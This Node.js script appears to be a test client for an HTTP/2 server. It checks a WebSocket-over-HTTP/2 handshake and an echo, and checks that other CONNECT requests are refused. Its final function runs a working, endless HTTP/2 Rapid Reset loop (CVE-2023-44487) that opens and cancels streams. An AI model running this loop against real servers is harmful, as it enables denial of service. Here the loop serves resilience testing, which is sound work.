// A WebSocket over HTTP/2 (RFC 8441), by hand. usage: node h2.js AUTHORITY-PEM ADDRESS PORT
// Prints the status of the handshake, what the application says of the client, and "echoed" once a
// message has come back; then abuses another connection for as long as it may.
'use strict';
const fs = require('fs');
const http2 = require('http2');
const crypto = require('crypto');
const tls = require('tls');

const [ca, host, port] = [fs.readFileSync(process.argv[2]), process.argv[3], Number(process.argv[4])];
const options = { ca, servername: 'a.test', createConnection: () =>
  tls.connect({ ca, host, port, servername: 'a.test', ALPNProtocols: ['h2'] }) };
const session = http2.connect('https://a.test', options);

// A masked frame of text (RFC 6455, section 5.2).
function frame(text) {
  const mask = crypto.randomBytes(4);
  const body = Buffer.from(text).map((byte, i) => byte ^ mask[i % 4]);
  return Buffer.concat([Buffer.from([0x81, 0x80 | body.length]), mask, body]);
}

session.on('remoteSettings', (settings) => {
  if (!settings.enableConnectProtocol) throw new Error('no extended CONNECT');
  const stream = session.request({ ':method': 'CONNECT', ':protocol': 'websocket', ':scheme': 'https',
    ':path': '/ws', ':authority': 'a.test', 'sec-websocket-version': '13' });
  let read = Buffer.alloc(0);
  let greeted = false;
  stream.on('response', (headers) => {
    const gone = ['connection', 'upgrade', 'sec-websocket-accept'].filter((name) => name in headers);
    console.log('status', headers[':status'], 'gone', gone.length === 0);
  });
  stream.on('data', (data) => {
    read = Buffer.concat([read, data]);
    while (read.length >= 2 && read.length >= 2 + (read[1] & 0x7f)) {
      const length = read[1] & 0x7f;
      const text = read.subarray(2, 2 + length).toString();
      read = read.subarray(2 + length);
      if (!greeted) {
        greeted = true;
        console.log('greeted', text);
        stream.write(frame('hello'));
      } else {
        console.log('echoed', text);
        stream.close();
        refused();
      }
    }
  });
});

// CONNECT to somewhere, and to a protocol that is not allowed, is refused.
function refused() {
  const plain = session.request({ ':method': 'CONNECT', ':authority': 'a.test:443' });
  plain.on('response', (headers) => {
    console.log('connect', headers[':status']);
    const other = session.request({ ':method': 'CONNECT', ':protocol': 'connect-udp', ':scheme': 'https',
      ':path': '/', ':authority': 'a.test' });
    other.on('response', (answer) => {
      console.log('other', answer[':status']);
      session.close();
      resets();
    });
    other.end();
  });
  plain.end();
}

// Streams opened and reset at once, again and again (CVE-2023-44487).
function resets() {
  const abusing = http2.connect('https://a.test', options);
  abusing.on('error', () => {});
  const abuse = () => {
    if (abusing.destroyed || abusing.closed) return;
    for (let i = 0; i < 100; i += 1) {
      const stream = abusing.request({ ':path': '/id' });
      stream.on('error', () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
    }
    setImmediate(abuse);
  };
  abusing.on('connect', abuse);
}
